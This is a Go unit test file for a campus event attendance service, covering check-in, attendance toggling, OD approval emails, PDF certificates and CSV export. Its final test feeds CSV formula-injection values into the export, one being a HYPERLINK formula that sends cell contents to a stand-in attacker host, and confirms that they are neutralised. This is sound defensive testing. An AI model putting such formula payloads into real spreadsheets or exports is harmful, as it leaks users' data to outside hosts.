package attendance

import (
	"bytes"
	"context"
	"encoding/csv"
	"sync"
	"testing"
	"time"

	"CampusEvents/internal/auth"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.mongodb.org/mongo-driver/bson/primitive"
	"go.uber.org/zap"
)

type fakeStore struct {
	mu     sync.Mutex
	rows   map[primitive.ObjectID]*Attendance
	events map[primitive.ObjectID]*EventInfo
	checks map[string]primitive.ObjectID
	coords map[primitive.ObjectID][]primitive.ObjectID // club -> coordinators
	mems   map[primitive.ObjectID][]primitive.ObjectID // club -> members
	users  map[primitive.ObjectID]*auth.UserSummary
}

func newFakeStore() *fakeStore {
	return &fakeStore{
		rows:   map[primitive.ObjectID]*Attendance{},
		events: map[primitive.ObjectID]*EventInfo{},
		checks: map[string]primitive.ObjectID{},
		coords: map[primitive.ObjectID][]primitive.ObjectID{},
		mems:   map[primitive.ObjectID][]primitive.ObjectID{},
		users:  map[primitive.ObjectID]*auth.UserSummary{},
	}
}

func (f *fakeStore) Find(_ context.Context, eventID, studentID primitive.ObjectID) (*Attendance, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	for _, r := range f.rows {
		if r.Event == eventID && r.Student == studentID {
			cp := *r
			return &cp, nil
		}
	}
	return nil, nil
}

func (f *fakeStore) FindByID(_ context.Context, id primitive.ObjectID) (*Attendance, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if r, ok := f.rows[id]; ok {
		cp := *r
		return &cp, nil
	}
	return nil, nil
}

func (f *fakeStore) Toggle(_ context.Context, id primitive.ObjectID) (*Attendance, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	r, ok := f.rows[id]
	if !ok {
		return nil, nil
	}
	r.Present = !r.Present
	cp := *r
	return &cp, nil
}

func (f *fakeStore) CheckIn(_ context.Context, eventID, studentID primitive.ObjectID, at time.Time) (*Attendance, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	for _, r := range f.rows {
		if r.Event == eventID && r.Student == studentID && !r.Present {
			r.Present = true
			r.CheckedInAt = &at
			cp := *r
			return &cp, nil
		}
	}
	return nil, nil
}

func (f *fakeStore) DecideOD(_ context.Context, id primitive.ObjectID, status string, by primitive.ObjectID, at time.Time) (*Attendance, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	r, ok := f.rows[id]
	if !ok {
		return nil, nil
	}
	r.ODStatus, r.ODDecidedBy, r.ODDecidedAt = status, &by, &at
	cp := *r
	return &cp, nil
}

func (f *fakeStore) records(match func(*Attendance) bool) []*Record {
	out := []*Record{}
	for _, r := range f.rows {
		if match(r) {
			rec := &Record{Attendance: *r, StudentRef: f.users[r.Student], EventRef: f.events[r.Event]}
			out = append(out, rec)
		}
	}
	return out
}

func (f *fakeStore) ListForEvent(_ context.Context, eventID primitive.ObjectID) ([]*Record, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.records(func(a *Attendance) bool { return a.Event == eventID }), nil
}

func (f *fakeStore) ForStudent(_ context.Context, studentID primitive.ObjectID) ([]*Record, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.records(func(a *Attendance) bool { return a.Student == studentID }), nil
}

func (f *fakeStore) PendingOD(_ context.Context, eventIDs []primitive.ObjectID) ([]*Record, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.records(func(a *Attendance) bool {
		for _, id := range eventIDs {
			if a.Event == id && a.ODStatus == ODPending {
				return true
			}
		}
		return false
	}), nil
}

func (f *fakeStore) FindEventByCheckIn(_ context.Context, checkInID string) (*EventInfo, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if id, ok := f.checks[checkInID]; ok {
		return f.events[id], nil
	}
	return nil, nil
}

func (f *fakeStore) FindEventByID(_ context.Context, id primitive.ObjectID) (*EventInfo, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.events[id], nil
}

func (f *fakeStore) EventIDsCoordinatedBy(_ context.Context, userID primitive.ObjectID) ([]primitive.ObjectID, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	var out []primitive.ObjectID
	for _, ev := range f.events {
		if contains(f.coords[ev.Club], userID) {
			out = append(out, ev.ID)
		}
	}
	return out, nil
}

func (f *fakeStore) ClubRoles(_ context.Context, clubID, userID primitive.ObjectID) (bool, bool, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return contains(f.coords[clubID], userID), contains(f.mems[clubID], userID), nil
}

func (f *fakeStore) FindUser(_ context.Context, id primitive.ObjectID) (*auth.UserSummary, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.users[id], nil
}

func contains(ids []primitive.ObjectID, id primitive.ObjectID) bool {
	for _, v := range ids {
		if v == id {
			return true
		}
	}
	return false
}

type sentMail struct{ to, subject, body string }

type recordingMailer struct {
	mu   sync.Mutex
	sent []sentMail
}

func (m *recordingMailer) Send(_ context.Context, to, subject, html string) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.sent = append(m.sent, sentMail{to, subject, html})
	return nil
}

type world struct {
	store       *fakeStore
	mailer      *recordingMailer
	svc         *AttendanceService
	event       *EventInfo
	student     auth.Caller
	coordinator auth.Caller
	member      auth.Caller
	row         *Attendance
}

func newWorld(t *testing.T) *world {
	t.Helper()
	store := newFakeStore()
	clubID := primitive.NewObjectID()
	ev := &EventInfo{
		ID: primitive.NewObjectID(), Name: "Hackathon", Club: clubID, ClubName: "Coding Club",
		Status: "approved", Venue: "Main Hall",
		StartDateTime: time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC),
		EndDateTime:   time.Date(2026, 3, 1, 17, 0, 0, 0, time.UTC),
	}
	store.events[ev.ID] = ev
	store.checks["abc-123"] = ev.ID

	w := &world{
		store:       store,
		mailer:      &recordingMailer{},
		event:       ev,
		student:     auth.Caller{ID: primitive.NewObjectID(), Role: auth.RoleStudent},
		coordinator: auth.Caller{ID: primitive.NewObjectID(), Role: auth.RoleCoordinator},
		member:      auth.Caller{ID: primitive.NewObjectID(), Role: auth.RoleMember},
	}
	store.coords[clubID] = []primitive.ObjectID{w.coordinator.ID}
	store.mems[clubID] = []primitive.ObjectID{w.coordinator.ID, w.member.ID}
	store.users[w.student.ID] = &auth.UserSummary{ID: w.student.ID, Name: "Asha", Email: "asha@college.edu", Role: auth.RoleStudent}

	w.row = &Attendance{ID: primitive.NewObjectID(), Event: ev.ID, Student: w.student.ID, ODStatus: ODPending}
	store.rows[w.row.ID] = w.row
	w.svc = NewAttendanceService(store, w.mailer, zap.NewNop())
	return w
}

func TestCheckIn(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()

	_, err := w.svc.CheckIn(ctx, w.student, "")
	assert.ErrorIs(t, err, ErrCheckInIDRequired)

	_, err = w.svc.CheckIn(ctx, w.student, "unknown")
	assert.ErrorIs(t, err, ErrInvalidCheckIn)

	_, err = w.svc.CheckIn(ctx, auth.Caller{ID: primitive.NewObjectID(), Role: auth.RoleStudent}, "abc-123")
	assert.ErrorIs(t, err, ErrNotRegistered)

	res, err := w.svc.CheckIn(ctx, w.student, "abc-123")
	require.NoError(t, err)
	assert.True(t, res.Attendance.Present)
	assert.NotNil(t, res.Attendance.CheckedInAt)
	assert.Equal(t, "Successfully checked in for Hackathon!", res.Message)

	_, err = w.svc.CheckIn(ctx, w.student, "abc-123")
	assert.ErrorIs(t, err, ErrAlreadyPresent)
}

func TestCheckIn_EventNotApproved(t *testing.T) {
	w := newWorld(t)
	w.event.Status = "pending"

	_, err := w.svc.CheckIn(context.Background(), w.student, "abc-123")
	assert.ErrorIs(t, err, ErrEventNotActive)
}

func TestToggle(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()

	row, err := w.svc.Toggle(ctx, w.member, w.row.ID)
	require.NoError(t, err)
	assert.True(t, row.Present)

	row, err = w.svc.Toggle(ctx, w.coordinator, w.row.ID)
	require.NoError(t, err)
	assert.False(t, row.Present)

	_, err = w.svc.Toggle(ctx, auth.Caller{ID: primitive.NewObjectID(), Role: auth.RoleMember}, w.row.ID)
	assert.ErrorIs(t, err, ErrNotClubStaff)

	_, err = w.svc.Toggle(ctx, w.member, primitive.NewObjectID())
	assert.ErrorIs(t, err, ErrRecordNotFound)
}

func TestDecideOD(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()

	for _, bad := range []string{"pending", "not_applicable", "APPROVED", ""} {
		_, err := w.svc.DecideOD(ctx, w.coordinator, w.row.ID, bad)
		assert.ErrorIs(t, err, ErrInvalidODStatus, bad)
	}
	stored, _ := w.store.FindByID(ctx, w.row.ID)
	assert.Equal(t, ODPending, stored.ODStatus)

	_, err := w.svc.DecideOD(ctx, w.member, w.row.ID, ODApproved)
	assert.ErrorIs(t, err, ErrNotClubStaff)

	row, err := w.svc.DecideOD(ctx, w.coordinator, w.row.ID, ODApproved)
	require.NoError(t, err)
	assert.Equal(t, ODApproved, row.ODStatus)
	require.NotNil(t, row.ODDecidedBy)
	assert.Equal(t, w.coordinator.ID, *row.ODDecidedBy)

	require.Len(t, w.mailer.sent, 1)
	assert.Equal(t, "asha@college.edu", w.mailer.sent[0].to)
	assert.Contains(t, w.mailer.sent[0].subject, "approved")
}

func TestPendingOD(t *testing.T) {
	w := newWorld(t)

	records, err := w.svc.PendingOD(context.Background(), w.coordinator)
	require.NoError(t, err)
	require.Len(t, records, 1)
	assert.Equal(t, "Asha", records[0].StudentRef.Name)

	records, err = w.svc.PendingOD(context.Background(), w.member)
	require.NoError(t, err)
	assert.Empty(t, records)
}

func TestCertificate(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()

	_, err := w.svc.Certificate(ctx, w.student, w.row.ID)
	assert.ErrorIs(t, err, ErrCertificateUnavailable)

	_, err = w.svc.DecideOD(ctx, w.coordinator, w.row.ID, ODApproved)
	require.NoError(t, err)

	_, err = w.svc.Certificate(ctx, auth.Caller{ID: primitive.NewObjectID(), Role: auth.RoleStudent}, w.row.ID)
	assert.ErrorIs(t, err, ErrNotRecordOwner)

	_, err = w.svc.Certificate(ctx, w.student, primitive.NewObjectID())
	assert.ErrorIs(t, err, ErrRecordNotFound)

	cert, err := w.svc.Certificate(ctx, w.student, w.row.ID)
	require.NoError(t, err)
	assert.True(t, bytes.HasPrefix(cert.PDF, []byte("%PDF-")))
	assert.Contains(t, cert.Filename, w.row.ID.Hex())
}

func TestEventRecordsAndCSV(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()

	_, _, err := w.svc.EventRecords(ctx, auth.Caller{ID: primitive.NewObjectID(), Role: auth.RoleMember}, w.event.ID)
	assert.ErrorIs(t, err, ErrNotClubStaff)

	_, err = w.svc.CheckIn(ctx, w.student, "abc-123")
	require.NoError(t, err)

	_, records, err := w.svc.EventRecords(ctx, w.member, w.event.ID)
	require.NoError(t, err)

	var buf bytes.Buffer
	require.NoError(t, WriteCSV(&buf, records))
	lines, err := csv.NewReader(&buf).ReadAll()
	require.NoError(t, err)
	require.Len(t, lines, 2)
	assert.Equal(t, exportHeader, lines[0])
	assert.Equal(t, []string{"Asha", "asha@college.edu", "true", ODPending}, lines[1][:4])
	assert.NotEmpty(t, lines[1][4])
}

func TestWriteCSV_NeutralisesFormulaCells(t *testing.T) {
	records := []*Record{
		{StudentRef: &auth.UserSummary{Name: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Email: "+1@x.edu"}},
		{StudentRef: &auth.UserSummary{Name: "@SUM(A1:A2)", Email: "-2+3@x.edu"}},
		{StudentRef: &auth.UserSummary{Name: "Asha", Email: "asha@college.edu"}},
	}
	var buf bytes.Buffer
	require.NoError(t, WriteCSV(&buf, records))
	lines, err := csv.NewReader(&buf).ReadAll()
	require.NoError(t, err)
	require.Len(t, lines, 4)

	assert.Equal(t, `'=HYPERLINK("http://evil.example/?"&A1,"click")`, lines[1][0])
	assert.Equal(t, "'+1@x.edu", lines[1][1])
	assert.Equal(t, "'@SUM(A1:A2)", lines[2][0])
	assert.Equal(t, "'-2+3@x.edu", lines[2][1])
	assert.Equal(t, []string{"Asha", "asha@college.edu"}, lines[3][:2])
}
